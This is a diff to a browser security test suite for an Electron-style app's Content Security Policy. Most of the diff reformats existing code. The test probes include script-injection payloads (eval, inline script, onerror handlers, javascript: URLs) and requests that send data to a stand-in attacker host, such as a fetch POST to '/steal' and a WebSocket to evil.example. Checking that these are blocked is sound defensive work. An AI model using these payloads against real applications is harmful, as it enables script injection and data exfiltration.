@@ -43,7 +43,13 @@ let electronLike: { server: Server; url: string };
 
 /** Serves dist/renderer as app:// does in Electron: the same files, with the Electron window's CSP header. */
 async function serveWithElectronCsp(): Promise<{ server: Server; url: string }> {
-  const types: Record<string, string> = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.css': 'text/css; charset=utf-8', '.svg': 'image/svg+xml', '.png': 'image/png' };
+  const types: Record<string, string> = {
+    '.html': 'text/html; charset=utf-8',
+    '.js': 'text/javascript; charset=utf-8',
+    '.css': 'text/css; charset=utf-8',
+    '.svg': 'image/svg+xml',
+    '.png': 'image/png',
+  };
   const server = createServer((request, response) => {
     const path = normalize(decodeURIComponent((request.url ?? '/').split(/[?#]/)[0]!)).replace(/^(\.\.[/\\])+/, '');
     const file = join(RENDERER_DIST, path === '/' ? 'index.html' : path);
@@ -91,20 +97,76 @@ async function observedPage(options: { bypassCSP?: boolean } = {}): Promise<Obse
  */
 const PROBES: Array<{ name: string; directive: string; code: string }> = [
   { name: 'eval', directive: 'script-src', code: `(() => { try { eval('window.${PWNED} = "eval"'); return 'ran'; } catch (e) { return e.name; } })()` },
-  { name: 'new Function', directive: 'script-src', code: `(() => { try { new Function('window.${PWNED} = "function"')(); return 'ran'; } catch (e) { return e.name; } })()` },
-  { name: 'setTimeout with a string', directive: 'script-src', code: `(() => { setTimeout('window.${PWNED} = "timeout"', 0); return new Promise((r) => setTimeout(() => r('scheduled'), 100)); })()` },
-  { name: 'an injected inline <script>', directive: 'script-src-elem', code: `(() => { const s = document.createElement('script'); s.textContent = 'window.${PWNED} = "inline"'; document.body.appendChild(s); return new Promise((r) => setTimeout(() => r('appended'), 100)); })()` },
-  { name: 'an inline event handler through innerHTML', directive: 'script-src-attr', code: `(() => { const d = document.createElement('div'); d.innerHTML = '<img src="/no-such-image.png" onerror="window.${PWNED} = \\'onerror\\'">'; document.body.appendChild(d); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()` },
-  { name: 'a javascript: URL in an iframe', directive: 'frame-src', code: `(() => { const f = document.createElement('iframe'); f.src = 'javascript:parent.${PWNED} = "iframe"'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 200)); })()` },
-  { name: 'fetch to another origin', directive: 'connect-src', code: `fetch('${EVIL}/steal?d=1', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name)` },
-  { name: 'XMLHttpRequest to another origin', directive: 'connect-src', code: `new Promise((r) => { try { const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/xhr'); x.onload = () => r('loaded'); x.onerror = () => r('error'); x.send(); } catch (e) { r(e.name); } })` },
-  { name: 'a WebSocket to another origin', directive: 'connect-src', code: `new Promise((r) => { try { const w = new WebSocket('wss://evil.example/ws'); w.onopen = () => r('open'); w.onerror = () => r('error'); } catch (e) { r(e.name); } })` },
-  { name: 'sendBeacon to another origin', directive: 'connect-src', code: `(() => { try { return navigator.sendBeacon('${EVIL}/beacon', 'x') ? 'queued' : 'refused'; } catch (e) { return e.name; } })()` },
-  { name: 'a remote image', directive: 'img-src', code: `new Promise((r) => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('error'); i.src = '${EVIL}/pixel.png'; })` },
-  { name: 'a remote script', directive: 'script-src-elem', code: `new Promise((r) => { const s = document.createElement('script'); s.src = '${EVIL}/x.js'; s.onload = () => r('loaded'); s.onerror = () => r('error'); document.head.appendChild(s); })` },
-  { name: 'a remote stylesheet', directive: 'style-src-elem', code: `new Promise((r) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${EVIL}/x.css'; l.onload = () => r('loaded'); l.onerror = () => r('error'); document.head.appendChild(l); })` },
-  { name: 'a remote iframe', directive: 'frame-src', code: `(() => { const f = document.createElement('iframe'); f.src = '${EVIL}/frame'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()` },
-  { name: 'a form posted to another origin', directive: 'form-action', code: `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '${EVIL}/form'; f.target = '_blank'; document.body.appendChild(f); f.submit(); return new Promise((r) => setTimeout(() => r('submitted'), 300)); })()` },
+  {
+    name: 'new Function',
+    directive: 'script-src',
+    code: `(() => { try { new Function('window.${PWNED} = "function"')(); return 'ran'; } catch (e) { return e.name; } })()`,
+  },
+  {
+    name: 'setTimeout with a string',
+    directive: 'script-src',
+    code: `(() => { setTimeout('window.${PWNED} = "timeout"', 0); return new Promise((r) => setTimeout(() => r('scheduled'), 100)); })()`,
+  },
+  {
+    name: 'an injected inline <script>',
+    directive: 'script-src-elem',
+    code: `(() => { const s = document.createElement('script'); s.textContent = 'window.${PWNED} = "inline"'; document.body.appendChild(s); return new Promise((r) => setTimeout(() => r('appended'), 100)); })()`,
+  },
+  {
+    name: 'an inline event handler through innerHTML',
+    directive: 'script-src-attr',
+    code: `(() => { const d = document.createElement('div'); d.innerHTML = '<img src="/no-such-image.png" onerror="window.${PWNED} = \\'onerror\\'">'; document.body.appendChild(d); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()`,
+  },
+  {
+    name: 'a javascript: URL in an iframe',
+    directive: 'frame-src',
+    code: `(() => { const f = document.createElement('iframe'); f.src = 'javascript:parent.${PWNED} = "iframe"'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 200)); })()`,
+  },
+  {
+    name: 'fetch to another origin',
+    directive: 'connect-src',
+    code: `fetch('${EVIL}/steal?d=1', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name)`,
+  },
+  {
+    name: 'XMLHttpRequest to another origin',
+    directive: 'connect-src',
+    code: `new Promise((r) => { try { const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/xhr'); x.onload = () => r('loaded'); x.onerror = () => r('error'); x.send(); } catch (e) { r(e.name); } })`,
+  },
+  {
+    name: 'a WebSocket to another origin',
+    directive: 'connect-src',
+    code: `new Promise((r) => { try { const w = new WebSocket('wss://evil.example/ws'); w.onopen = () => r('open'); w.onerror = () => r('error'); } catch (e) { r(e.name); } })`,
+  },
+  {
+    name: 'sendBeacon to another origin',
+    directive: 'connect-src',
+    code: `(() => { try { return navigator.sendBeacon('${EVIL}/beacon', 'x') ? 'queued' : 'refused'; } catch (e) { return e.name; } })()`,
+  },
+  {
+    name: 'a remote image',
+    directive: 'img-src',
+    code: `new Promise((r) => { const i = new Image(); i.onload = () => r('loaded'); i.onerror = () => r('error'); i.src = '${EVIL}/pixel.png'; })`,
+  },
+  {
+    name: 'a remote script',
+    directive: 'script-src-elem',
+    code: `new Promise((r) => { const s = document.createElement('script'); s.src = '${EVIL}/x.js'; s.onload = () => r('loaded'); s.onerror = () => r('error'); document.head.appendChild(s); })`,
+  },
+  {
+    name: 'a remote stylesheet',
+    directive: 'style-src-elem',
+    code: `new Promise((r) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${EVIL}/x.css'; l.onload = () => r('loaded'); l.onerror = () => r('error'); document.head.appendChild(l); })`,
+  },
+  {
+    name: 'a remote iframe',
+    directive: 'frame-src',
+    code: `(() => { const f = document.createElement('iframe'); f.src = '${EVIL}/frame'; document.body.appendChild(f); return new Promise((r) => setTimeout(() => r('appended'), 300)); })()`,
+  },
+  {
+    name: 'a form posted to another origin',
+    directive: 'form-action',
+    code: `(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '${EVIL}/form'; f.target = '_blank'; document.body.appendChild(f); f.submit(); return new Promise((r) => setTimeout(() => r('submitted'), 300)); })()`,
+  },
 ];
 
 /**
@@ -132,10 +194,13 @@ async function runProbes(observed: Observed): Promise<void> {
   // (Violation events are dispatched asynchronously: wait until every expected directive has reported.)
   const expected = [...new Set(PROBES.map((p) => p.directive))].sort();
   await expect
-    .poll(async () => {
-      const seen = await observed.violations();
-      return expected.filter((d) => seen.some((v) => v.directive === d));
-    }, { timeout: 5000, interval: 100 })
+    .poll(
+      async () => {
+        const seen = await observed.violations();
+        return expected.filter((d) => seen.some((v) => v.directive === d));
+      },
+      { timeout: 5000, interval: 100 },
+    )
     .toEqual(expected);
   // Nothing reached evil.example, not even a request the route would have answered.
   expect(observed.evilRequests).toEqual([]);
@@ -165,8 +230,18 @@ async function openWindow(): Promise<Observed> {
 describe('the window under the headless host, in Chromium', () => {
   it('has no Node in the page: require, process, module, Buffer and global are undefined', async () => {
     const { page } = await openWindow();
-    const types = await page.evaluate(`({ require: typeof require, process: typeof process, module: typeof module, exports: typeof exports, Buffer: typeof globalThis.Buffer, global: typeof global, setImmediate: typeof setImmediate })`);
-    expect(types).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', exports: 'undefined', Buffer: 'undefined', global: 'undefined', setImmediate: 'undefined' });
+    const types = await page.evaluate(
+      `({ require: typeof require, process: typeof process, module: typeof module, exports: typeof exports, Buffer: typeof globalThis.Buffer, global: typeof global, setImmediate: typeof setImmediate })`,
+    );
+    expect(types).toEqual({
+      require: 'undefined',
+      process: 'undefined',
+      module: 'undefined',
+      exports: 'undefined',
+      Buffer: 'undefined',
+      global: 'undefined',
+      setImmediate: 'undefined',
+    });
     // The headless host's bridge is the WebSocket; no Electron preload object exists here.
     expect(await page.evaluate('typeof window.caseStatusSync')).toBe('undefined');
     await page.context().close();
@@ -214,7 +289,18 @@ describe('the window under the headless host, in Chromium', () => {
         { id: 2, at: now, kind: 'document', matterId: null, summary: `Document ${payloads.iframe}.pdf`, link: `javascript:window.${PWNED}='href'` },
       ],
       attention: [
-        { id: 7, kind: 'unmapped_stage', subjectId: payloads.img, reason: `Stage ${payloads.script} has no Case Status stage`, firstSeen: now, lastSeen: now, occurrences: 1, retryable: true, confirmable: false, dismissable: true },
+        {
+          id: 7,
+          kind: 'unmapped_stage',
+          subjectId: payloads.img,
+          reason: `Stage ${payloads.script} has no Case Status stage`,
+          firstSeen: now,
+          lastSeen: now,
+          occurrences: 1,
+          retryable: true,
+          confirmable: false,
+          dismissable: true,
+        },
       ],
       recentRuns: [{ id: 3, kind: 'incremental', startedAt: now, finishedAt: now, outcome: 'failed', error: payloads.svg }],
     } satisfies Partial<AppView>);
